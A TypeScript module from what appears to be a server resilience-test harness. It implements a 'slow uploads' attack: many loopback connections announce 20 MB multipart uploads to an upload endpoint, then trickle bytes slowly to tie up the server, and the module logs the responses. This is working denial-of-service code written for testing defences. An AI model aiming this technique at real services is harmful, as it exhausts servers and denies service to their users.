import { connect, type Socket } from 'node:net';
import { Outcomes, type TimedAttack } from './timed-attack';

const bodies = 64;
/** All of them together send 83 kB/s. */
const partBytes = 1_300;
const announced = 20_000_000;

/**
 * Bodies of 20 MB that arrive slowly: 64 without a session from one address, 64 of one account from another. Ended ones
 * are replaced.
 */
export const slowUploads: TimedAttack = {
  name: 'slow uploads',
  async begin({ port, attacker }) {
    const outcomes = new Outcomes();
    const open = new Set<Socket>();
    let isOver = false;
    const send = (localAddress: string, token: string) => {
      if (isOver) return;
      const socket = connect({ port, host: '127.0.0.1', localAddress });
      open.add(socket);
      socket.on('error', () => {});
      socket.once('data', (chunk) => {
        outcomes.add(`${String(chunk).slice(9, 12)} for ${token === '' ? 'nobody' : 'the account'}`);
        socket.destroy();
      });
      socket.once('close', () => {
        open.delete(socket);
        setTimeout(send, 500, localAddress, token);
      });
      socket.write(
        `POST /prod-api/api/oss/upload HTTP/1.1\r\nHost: x\r\n${token}Content-Type: multipart/form-data; boundary=b\r\nContent-Length: ${announced}\r\n\r\n--b\r\n`,
      );
    };
    for (let at = 0; at < bodies; at += 1) {
      send('127.0.0.2', '');
      send('127.0.0.3', `Token: ${attacker.token}\r\n`);
    }
    const sending = setInterval(() => {
      for (const socket of open) socket.write('x'.repeat(partBytes));
    }, 1_000);
    return () => {
      isOver = true;
      clearInterval(sending);
      for (const socket of open) socket.destroy();
      return String(outcomes);
    };
  },
};
